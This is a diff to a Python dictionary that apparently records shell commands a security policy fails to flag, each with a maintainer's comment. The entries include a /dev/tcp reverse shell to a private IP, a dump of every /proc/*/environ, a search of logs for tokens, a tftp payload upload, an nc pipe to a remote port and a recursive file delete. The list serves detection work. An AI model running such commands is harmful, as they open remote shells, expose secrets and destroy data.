@@ -657,13 +657,11 @@ UNMET: dict[str, str] = {
     '(bash)0>/dev/tcp/10.10.14.8/443': "a subshell's descriptor redirected to /dev/tcp: a reverse shell",
     'mkdir -p /mnt/hola && mount /dev/sda1 /mnt/hola':
         'our label and a documented decision disagree (docs: mount /dev/sdb1 /mnt passes): left so',
-    'for e in `ls /proc/*/environ`; do echo; echo $e; xargs -0 -L1 -a $e; done':
-        'a loop over every /proc/*/environ read',
     'log show --info --debug --predicate \'eventMessage CONTAINS[d] "eyJ"\'':
         'a log searched for tokens: no rule knows token shapes in a predicate',
     'echo "load bad.dylib" | tclsh': "tcl's load of a native library on its input",
     'tftp 10.0.0.5 << EOF\nbinary\nput /tmp/payload.sh payload.sh\nquit\nEOF':
-        "our label and the policy disagree: a named file put by ftp passes, as a deploy (scp dist/app.tgz host:): left so",
+        'our label and the policy disagree: a named file put by ftp passes, as a deploy (scp dist/app.tgz host:): left so',
     "echo 'id' | nc 10.0.0.5 1337":
         'our label and a decision of remote.py disagree (a literal echoed into nc sends nothing of the machine): left so',
     'find /some/dir -type d -exec find {} -type f -delete \\;':
